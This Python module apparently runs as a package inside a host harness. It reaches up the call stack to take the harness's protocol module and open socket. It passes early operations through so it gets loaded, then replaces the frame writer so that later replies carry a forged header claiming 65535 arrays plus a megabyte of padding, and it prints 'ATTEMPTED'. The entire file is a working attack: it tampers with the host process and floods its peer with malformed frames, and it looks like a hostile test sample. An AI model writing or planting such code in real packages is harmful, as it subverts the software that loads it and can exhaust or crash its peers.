"""Announces as many arrays as the header can say."""
import sys
import struct

# The harness's own module and socket, taken out of its frame.
frame = sys._getframe()
while frame.f_code.co_name != "main":
    frame = frame.f_back
protocol, connection = frame.f_globals["protocol"], frame.f_locals["connection"]


honest = protocol.write_frame


def many(connection, frame):
    if frame.operation <= 3:  # loading, so that the package gets in
        return honest(connection, frame)
    connection.sendall(struct.pack("<4sHHHHQ", b"TTMS", 1, 2, frame.operation, 65535, frame.request_id) + bytes(1 << 20))


protocol.write_frame = many
print("ATTEMPTED", flush=True)
